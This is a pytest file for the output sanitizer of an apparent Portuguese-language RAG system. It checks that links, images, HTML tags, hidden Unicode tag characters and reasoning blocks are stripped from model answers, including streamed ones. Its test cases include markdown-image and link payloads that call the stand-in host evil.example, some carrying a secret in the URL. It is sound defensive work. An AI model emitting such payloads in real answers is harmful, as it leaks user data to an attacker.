import pytest

from rag_system.model_output import SafeStream, clean

KNOWN = ["Veja https://portal.exemplo.com.br/alunos e o manual."]

HARMFUL = [
    ("Veja ![x](https://evil.example/p.png?d=segredo) agora [1].", "Veja  agora [1]."),
    ("Veja ![x][ref].\n\n[ref]: https://evil.example/p.png", "Veja .\n\n"),
    ("Clique [aqui](https://evil.example/login) já.", "Clique aqui já."),
    ("A dose é 5 g [1](https://evil.example/1).", "A dose é 5 g [1]."),
    ("[![a](https://evil.example/a.png)](https://evil.example)", ""),
    ("Acesse https://evil.example/?q=segredo hoje.", "Acesse  hoje."),
    ("Acesse www.evil.example agora.", "Acesse  agora."),
    ("<img src=https://evil.example/x.png>Texto", "Texto"),
    ("<a href='https://evil.example'>clique</a>", "clique"),
    ("<https://evil.example/x>", ""),
    ("javascript:alert é perigoso", " é perigoso"),
    ("Texto\U000e0041\U000e0042 limpo", "Texto limpo"),
    ("<think>segredo do modelo</think>Resposta [1].", "Resposta [1]."),
    ("Veja ![x](//evil.example/p.png).", "Veja ."),
    ("![multi\nlinha](https://evil.example/p.png) fim", " fim"),
]
HARMLESS = [
    "A dose é de 3 a 5 g por dia [1][2].",
    "- item um [1]\n- item dois [2]",
    "| a | b |\n|---|---|\n| 1 | 2 [1] |",
    "O vetor a[1] recebe b[i](x) quando x < 3 e y > 2!",
    "Use `print(a[1])` e **negrito**.",
    "Acesse https://portal.exemplo.com.br/alunos para ver [1].",
    "Corra a 10 km/h por 1/2 hora.",
    "Nota [veja o anexo] e continue.",
]


@pytest.mark.parametrize(("written", "shown"), HARMFUL)
def test_what_loads_or_sends_is_taken_out(written: str, shown: str) -> None:
    assert clean(written, KNOWN) == shown


@pytest.mark.parametrize("written", HARMLESS)
def test_ordinary_answers_stay_letter_for_letter(written: str) -> None:
    assert clean(written, KNOWN) == written


@pytest.mark.parametrize("size", [1, 2, 3, 5, 8, 13])
@pytest.mark.parametrize("written", [*(one for one, _ in HARMFUL), *HARMLESS])
def test_a_stream_shows_nothing_more_than_the_whole(written: str, size: int) -> None:
    stream = SafeStream(KNOWN)
    pieces = [written[place : place + size] for place in range(0, len(written), size)]
    shown = "".join([*(stream.feed(piece) for piece in pieces), stream.finish()])
    assert "evil.example" not in shown
    assert "![" not in shown
    assert "segredo" not in shown
    if written in HARMLESS:
        assert shown == written


def test_plain_words_are_shown_at_once() -> None:
    stream = SafeStream()
    assert stream.feed("A dose") == "A dose"
    assert stream.feed(" é de 5 g") == " é de 5 g"


def test_a_bracket_that_never_closes_is_shown_in_the_end() -> None:
    stream = SafeStream()
    shown = stream.feed("Veja [1] e [não fecha") + stream.feed(" mais texto")
    assert shown + stream.finish() == "Veja [1] e [não fecha mais texto"
